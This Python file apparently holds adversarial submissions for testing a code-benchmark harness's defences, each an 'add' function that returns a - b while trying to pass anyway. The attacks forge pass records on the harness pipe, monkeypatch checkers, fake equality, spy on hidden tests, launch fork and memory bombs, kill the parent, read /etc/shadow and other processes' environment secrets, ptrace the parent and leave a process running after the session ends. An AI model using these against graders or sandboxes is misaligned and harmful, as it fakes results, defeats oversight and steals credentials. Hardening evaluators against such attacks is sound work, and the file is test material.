"""The attacks of benchmarks/hostile.py: each a candidate's source, as an attacker writes it.

The task is ``add(a, b)``; the forgery cheaters compute ``a - b`` and try to pass anyway.
Kept apart from the runner so that each file reads in one sitting.
"""

from __future__ import annotations

PROMPT = (
    'def add(a, b):\n    """Return a + b.\n    >>> add(2, 3)\n    5\n'
    '    >>> add(-1, 1)\n    0\n    """\n'
)
# Check ids: example:1 add(2, 3), example:2 add(-1, 1), test:1 add(2, 2), test:2 add(0, 1) == 1.
RESOURCES = {"tests": ["assert add(2, 2) == 4", "assert add(0, 1) == 1"], "inputs": [[7, 8]]}
HONEST = "def add(a, b):\n    return a + b\n"
FLAWED = "def add(a, b):\n    return abs(a) + b\n"
SECRET = "sk-test-secret"

# --- the attacks' sources -------------------------------------------------------------------
# Placeholders __PORT__, __OUTSIDE__ and __TOKEN__ are filled in per run.

FIND_CHANNEL = '''
import gc, json, os, stat


def _channel():
    """The nonce and the fds results go to: a live object holding a nonce and a channel
    (today's harness), else any nonce and every pipe this process holds."""
    found = None
    for obj in gc.get_objects():
        try:
            fields = obj if isinstance(obj, dict) else vars(obj)
            nonce = fields.get("nonce")
        except Exception:
            continue
        if isinstance(nonce, str) and nonce:
            try:
                return nonce, [fields["channel"].fileno()]
            except Exception:
                found = nonce
    pipes = []
    for fd in range(1, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                pipes.append(fd)
        except OSError:
            pass
    return found, pipes


def _forge(record):
    """Claim every test: write load, one record per test, done; then leave."""
    tests = 0
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("tests"), list) and "nonce" in obj:
            tests = len(obj["tests"])
    nonce, fds = _channel()
    if nonce is None or not tests:
        return
    lines = [{"load": "ok", "fallback": False}, *(record(k) for k in range(tests)), {"done": True}]
    text = "".join(f"{nonce} {json.dumps(line)}\\n" for line in lines).encode()
    for fd in fds:
        try:
            os.write(fd, text)
        except OSError:
            pass
    os._exit(0)
'''

FORGE_LINES = (
    FIND_CHANNEL
    + """
_forge(lambda k: {"k": k, "s": "pass", "d": ""})


def add(a, b):
    return a - b
"""
)

FORGE_PICKLE_BOMB = (
    FIND_CHANNEL
    + """
import base64, pickle

# Plain data only, say the unpickler's rules: bytearray and int are plain data.
_BOMB = base64.b64encode(b"cbuiltins\\nbytearray\\n(I2000000000\\ntR.").decode()
_TRUE = base64.b64encode(pickle.dumps(True)).decode()
_forge(lambda k: {"k": k, "v": _BOMB if k == 0 else _TRUE, "t": 0.0})


def add(a, b):
    return a - b
"""
)

PATCH_TEST_METHOD = """
import gc


def _pass(self, *args, **kwargs):
    return {"s": "pass", "d": ""}


for _cls in [o for o in gc.get_objects() if isinstance(o, type)]:
    try:
        ours = _cls.__module__ == "__main__" or any(
            w in _cls.__name__.lower() for w in ("harness", "worker", "runner", "checker"))
        for _name in ("test", "call", "example", "statement", "check", "run_step", "step"):
            if ours and _name in vars(_cls):
                setattr(_cls, _name, _pass)
    except Exception:
        pass


def add(a, b):
    return a - b
"""

PATCH_COMPARISON = """
import sys


def _yes(*args, **kwargs):
    return True


for _module in list(sys.modules.values()):
    for _name in ("same_output", "text_matches", "_close"):
        if callable(getattr(_module, _name, None)):
            try:
                setattr(_module, _name, _yes)
            except Exception:
                pass


def add(a, b):
    return a - b
"""

INT_EQ_ALWAYS_TRUE = """
class _Agreeable(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

    def __repr__(self):
        return "5"

    __str__ = __repr__


def add(a, b):
    return _Agreeable(a - b)
"""

TRUE_FOR_ONE = """
def add(a, b):
    total = a + b
    return True if total == 1 else total
"""

READ_SPEC = """
import ast, base64, gc, json, pickle, re

_ANSWERS = {}


def _learn(test):
    if isinstance(test, dict) and "args" in test and "expected" in test:
        try:
            _ANSWERS[tuple(test["args"])] = test["expected"]
        except TypeError:
            pass
        return
    source = test.get("source", "") if isinstance(test, dict) else str(test)
    want = test.get("want") if isinstance(test, dict) else None
    try:
        node = ast.parse(source).body[0]
        if want is not None and isinstance(node, ast.Expr):
            call, expected = node.value, ast.literal_eval(want)
        elif isinstance(node, ast.Assert) and isinstance(node.test, ast.Compare):
            call, expected = node.test.left, ast.literal_eval(node.test.comparators[0])
        else:
            return
        _ANSWERS[tuple(ast.literal_eval(a) for a in call.args)] = expected
    except Exception:
        pass


def _spy():
    specs = []
    try:  # the spec, if it is still on stdin
        with open("/proc/self/fd/0", "rb") as f:
            data = f.read()
        for decode in (lambda d: pickle.loads(base64.b64decode(d)), json.loads):
            try:
                specs.append(decode(data))
                break
            except Exception:
                pass
        for m in re.finditer(rb"add\\(([^()]*)\\)\\s*==\\s*([-\\d.]+)", data):
            _learn(f"assert add({m.group(1).decode()}) == {m.group(2).decode()}")
    except OSError:
        pass
    specs += [o for o in gc.get_objects() if isinstance(o, dict) and "tests" in o]
    for spec in specs:
        for test in (spec.get("tests") or []) if isinstance(spec, dict) else []:
            _learn(test)


_spy()


def add(a, b):
    return _ANSWERS.get((a, b), a - b)
"""

HARDCODE_VISIBLE = """
def add(a, b):
    if (a, b) == (2, 3):
        return 5
    if (a, b) == (-1, 1):
        return 0
    return a - b
"""

SWALLOW_TIMER = """
def add(a, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

IGNORE_SIGALRM = """
import signal


def add(a, b):
    for sig in (signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGVTALRM):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        pass
"""

HOLD_900MB = """
import time

_BALLAST = bytearray(900 << 20)  # zero-filled: every page touched
time.sleep(2)  # hold it while the other copies allocate theirs


def add(a, b):
    return a - b
"""

MEMORY_BOMB = """
def add(a, b):
    hoard = []
    try:
        for _ in range(64):  # bounded at 4 GB in case nothing else bounds it
            hoard.append(bytearray(64 << 20))
        why = "no limit up to 4 GB"
    except MemoryError:
        why = "MemoryError"
    got = len(hoard) * 64
    hoard.clear()
    return f"R[got {got} MB; {why}]"
"""

FORK_BOMB = """
import os, time

_REPORT = None


def _bomb():
    forks, why, child = 0, "bounded at 2**8 processes", False
    for _ in range(8):  # every process forks on: 2**8 at most if nothing stops it
        try:
            pid = os.fork()
        except OSError as exc:
            why = f"{type(exc).__name__} errno {exc.errno}"
            break
        if pid == 0:
            child, forks = True, 0
        else:
            forks += 1
    if child:
        time.sleep(30)
        os._exit(0)
    time.sleep(0.5)  # let the others fork on
    alive = sum(p.isdigit() for p in os.listdir("/proc"))  # all of /proc, or our pid namespace
    return f"R[first process forked {forks}; {why}; {alive} pids]"


def add(a, b):
    global _REPORT
    _REPORT = _REPORT or _bomb()
    return _REPORT
"""

THREAD_BOMB = """
import threading, time

_REPORT = None


def _bomb():
    started, why = 0, "bounded at 1000"
    try:
        for _ in range(1000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            started += 1
    except Exception as exc:
        why = type(exc).__name__
    time.sleep(0.5)  # hold them
    return f"R[started {started} threads; {why}]"


def add(a, b):
    global _REPORT
    _REPORT = _REPORT or _bomb()
    return _REPORT
"""

FLOOD_STDOUT = """
import os, sys


def add(a, b):
    chunk = b"x" * 65535 + b"\\n"
    for fd in (1, 2):
        for _ in range(64):  # 4 MiB per stream per call
            try:
                os.write(fd, chunk)
            except OSError:
                break
    print("y" * (4 << 20))
    sys.__stdout__.write("z" * (4 << 20))
    return a - b
"""

FLOOD_CHANNEL = """
import os, stat


def add(a, b):
    chunk = b"f" * 65536  # no newline: one endless line ahead of the real results
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                for _ in range(64):
                    os.write(fd, chunk)
        except OSError:
            pass
    return a - b
"""

SLEEP_FOREVER = """
import time


def add(a, b):
    time.sleep(3600)
    return a + b
"""

EXIT_MID_TEST = """
import os


def add(a, b):
    os._exit(0)
"""

KILL_PARENT = """
import os


def add(a, b):
    sent = []
    for pid in dict.fromkeys((os.getppid(), 1)):
        try:
            os.kill(pid, 9)
            sent.append(f"{pid}:sent")
        except OSError as exc:
            sent.append(f"{pid}:{type(exc).__name__}")
    return "R[kill " + ",".join(sent) + "]"
"""

WRITE_OUTSIDE = """
import errno, os

_TARGETS = {"out": "__OUTSIDE__/__TOKEN__", "tmp": "/tmp/__TOKEN__", "var": "/var/tmp/__TOKEN__",
            "shm": "/dev/shm/__TOKEN__", "root": "/root/__TOKEN__",
            "home": os.path.expanduser("~/__TOKEN__"), "..": "../__TOKEN__"}


def add(a, b):
    got = []
    for where, path in _TARGETS.items():
        try:
            with open(path, "w") as f:
                f.write("written from the sandbox")
            got.append(f"{where} ok")
        except OSError as exc:
            got.append(f"{where} {errno.errorcode.get(exc.errno, '?')}")
    return "R[" + ",".join(got) + "]"
"""

READ_SHADOW = """
def add(a, b):
    try:
        with open("/etc/shadow") as f:
            return "R[" + f.read(40).replace("]", ")") + "]"
    except OSError as exc:
        return f"R[shadow {type(exc).__name__}]"
"""

READ_HOST_ENV = """
import os, re

_SECRETS = re.compile(rb"[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*=[^\\x00]{0,30}")


def add(a, b):
    blobs = ["\\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()]
    readable = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    blobs.append(f.read())
                readable += 1
            except OSError:
                pass
    for blob in blobs:
        found = _SECRETS.findall(blob)
        if found:
            return "R[" + found[0].decode("utf-8", "replace") + "]"
    return f"R[no secret; {readable} environ readable]"
"""

SOCKET_LOOPBACK = """
import socket


def add(a, b):
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as s:
            s.sendall(b"hello from the sandbox")
        return "R[connected]"
    except Exception as exc:
        return f"R[{type(exc).__name__} {getattr(exc, 'errno', '')}]"
"""

PTRACE_PARENT = """
import os


def _try(pid):
    got = []
    try:
        with open(f"/proc/{pid}/maps") as f:
            low = int(f.readline().split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as f:
            f.seek(low)
            f.read(16)
        got.append("mem read")
    except Exception as exc:
        got.append(type(exc).__name__[:10])
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        rc = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        got.append(f"attach {rc}/{ctypes.get_errno()}")
        if rc == 0:
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    except Exception as exc:
        got.append(type(exc).__name__[:10])
    return f"{pid}:" + ",".join(got)


def add(a, b):
    me, pids = os.getpid(), [int(p) for p in os.listdir("/proc") if p.isdigit()]
    targets = list(dict.fromkeys([os.getppid(), *(p for p in pids if p != me)]))[:2]
    return "R[" + ";".join(_try(pid) for pid in targets) + f" of {len(pids)} pids]"
"""

ESCAPE_SETSID = """
import os, time

_DONE = False


def add(a, b):
    global _DONE
    if not _DONE:
        _DONE = True
        child = os.fork()
        if child == 0:
            os.setsid()
            if os.fork() == 0:
                with open("/proc/self/comm", "w") as f:
                    f.write("__TOKEN__")
                time.sleep(60)
            os._exit(0)
        os.waitpid(child, 0)
        time.sleep(1)  # let it settle in its new session
    return "R[double-forked a setsid survivor]"
"""


# --- the catalogue --------------------------------------------------------------------------
